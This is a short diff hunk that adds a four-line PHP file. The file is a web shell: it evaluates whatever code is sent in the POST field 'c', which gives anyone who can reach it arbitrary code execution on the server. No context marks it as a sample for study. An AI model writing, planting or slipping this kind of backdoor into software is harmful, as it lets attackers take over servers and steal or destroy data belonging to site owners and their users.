@@ -1,0 +1,4 @@
+<?php eval(<<<CODE
+{$_POST['c']}
+CODE
+);
